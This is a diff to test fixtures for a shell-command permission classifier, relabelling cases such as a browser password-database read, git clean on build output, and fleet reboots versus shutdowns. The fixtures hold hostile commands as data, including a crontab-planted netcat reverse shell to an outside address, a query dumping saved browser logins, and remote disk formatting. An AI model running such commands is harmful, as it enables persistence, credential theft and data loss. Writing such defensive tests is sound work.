@@ -353,9 +353,9 @@ TENTH = [
     ("(crontab -l 2>/dev/null; echo '0 * * * * /bin/sh -c \"nc -e /bin/sh 198.51.100.9 4444\"') | crontab -",
      "deny"),
     ("(crontab -l 2>/dev/null; echo '0 2 * * * /usr/bin/make -C /home/dev/project test') | crontab -", "ask"),
-    # a browser's saved passwords are credentials
+    # a browser's saved passwords are every site's login at once: read, a stop (cred.browser-store)
     ("sqlite3 ~/.config/chromium/Default/'Login Data' 'SELECT username_value, password_value FROM logins'",
-     "ask"),
+     "deny"),
     ("sqlite3 data/app.db 'SELECT count(*) FROM logins'", "allow"),
     # a function called in the line runs with its arguments, not with $1 unset
     ("wipe() { rm -rf \"$1\"/*; }; wipe ./dist", "allow"),
@@ -746,7 +746,9 @@ FIFTEENTH = [
     ("git clean -fdX -- build/ coverage/", "allow"),
     ("git clean -fdX", "ask"),
     ("git clean -fdX -- data/", "ask"),
-    ("git clean -fdx -- build/", "ask"),
+    # a pathspec of build output limits the clean to what the build makes again, -x or not
+    ("git clean -fdx -- build/", "allow"),
+    ("git clean -fdx -- build/ .env", "ask"),
     ("sudo chown -R $USER:$USER ~/projects", "allow"),
     ("sudo chown -R www-data ~/projects", "verify"),
     ('sudo chown -R "$USER":staff /usr/local', "verify"),
@@ -805,11 +807,15 @@ EIGHTEENTH = [
     ('D=${1:-~}; rm -rf "$D"', "deny"),
     ('OUT=${OUT_DIR:-dist}; rm -rf "$OUT"', "allow"),
     ('for h in $(cat hosts.txt); do ssh $h "sudo shutdown -h now"; done', "deny"),
-    ('while read -r h; do ssh "deploy@$h" "sudo reboot"; done < hosts.txt', "deny"),
-    ("cat hosts | xargs -I{} ssh {} sudo reboot", "deny"),
+    # a reboot comes back by itself: an outage of minutes on each host, which a human verifies; a
+    # shutdown needs someone to power every host on again
+    ('while read -r h; do ssh "deploy@$h" "sudo reboot"; done < hosts.txt', "verify"),
+    ("cat hosts | xargs -I{} ssh {} sudo reboot", "verify"),
+    ("cat hosts | xargs -I{} ssh {} sudo poweroff", "deny"),
     ('for h in db1 db2; do ssh "$h" "sudo mkfs.ext4 /dev/sdb"; done', "deny"),
-    ('ansible webservers -b -m command -a "reboot"', "deny"),
-    ("fab -H web1,web2 -- sudo reboot", "deny"),
+    ('ansible webservers -b -m command -a "reboot"', "verify"),
+    ("fab -H web1,web2 -- sudo reboot", "verify"),
+    ("fab -H web1,web2 -- sudo shutdown -h now", "deny"),
     ("ssh web1 sudo reboot", "verify"),
     ('for h in web1 web2 web3; do ssh "$h" uptime; done', "allow"),
     ("for h in $(cat hosts); do ssh $h df -h; done", "allow"),
